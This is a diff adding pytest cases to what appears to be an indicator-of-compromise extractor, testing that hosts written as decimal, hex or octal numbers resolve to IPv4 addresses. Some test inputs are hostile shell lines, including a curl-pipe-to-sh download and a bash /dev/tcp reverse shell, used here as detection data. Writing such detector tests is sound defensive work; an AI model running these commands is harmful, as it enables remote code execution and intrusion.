@@ -299,3 +299,51 @@ def test_drive_path_after_a_device_prefix(text: str, path: str) -> None:
 
 def test_drive_after_other_backslash_text_is_no_path() -> None:
     assert _found("a\\C:\\x x\\?\\C:\\y", "windows_path") == set()
+
+
+# ------------------------------------------------------------------ numeric hosts
+@pytest.mark.parametrize(
+    ("text", "address", "raw"),
+    [
+        ("visit http://2130706433/admin now", "127.0.0.1", "2130706433"),
+        ("http://0x7f000001/x", "127.0.0.1", "0x7f000001"),
+        ("https://0XC0A80101/login", "192.168.1.1", "0XC0A80101"),
+        ("http://0xC0.0xA8.0x01.0x01/login", "192.168.1.1", "0xC0.0xA8.0x01.0x01"),
+        ("http://user@0x7f.1:8080/a", "127.0.0.1", "0x7f.1"),
+        ("ftp://0x7f.0x00.0x00.0x01./x", "127.0.0.1", "0x7f.0x00.0x00.0x01."),
+        # octal parts where four decimal octets cannot be read
+        ("http://0300.0250.1.1/", "192.168.1.1", "0300.0250.1.1"),
+        ("curl -s http://3232235777:8080/a.sh | sh", "192.168.1.1", "3232235777"),
+        # the other hosts an address is read from
+        (r"net use \\2130706433\c$", "127.0.0.1", "2130706433"),
+        ("bash -i >& /dev/tcp/3232235777/4444 0>&1", "192.168.1.1", "3232235777"),
+    ],
+)
+def test_a_host_written_in_other_numbers_gives_its_address(
+    text: str, address: str, raw: str
+) -> None:
+    found = [m for m in IocExtractor().finditer(text) if m.type == "ipv4"]
+    assert [(m.value, m.raw) for m in found] == [(address, raw)]
+    assert text[found[0].start : found[0].end] == raw
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "http://1/",  # 0.0.0.1: 0.0.0.0/8 is no destination
+        "http://0x/",
+        "http://99999999999/",  # past 2**32
+        "http://0x7g000001/",  # not hexadecimal: a name (with no TLD)
+        "http://0x100.1.1.1/",  # a leading part over 255
+        "http://0300.0250.1.1111/",
+        "build 0x7f000001 and 2130706433 in prose",
+    ],
+)
+def test_numbers_that_are_no_address_give_none(text: str) -> None:
+    assert _found(text, "ipv4") == set()
+
+
+def test_short_decimal_hosts_and_decimal_octets_keep_their_reading() -> None:
+    assert _found("http://172.16.5/", "url") == set()  # a version or a typo
+    assert _found("http://010.001.002.003/", "ipv4") == {"10.1.2.3"}  # decimal, as before
+    assert _found("http://08.1.1.1/", "ipv4") == {"8.1.1.1"}
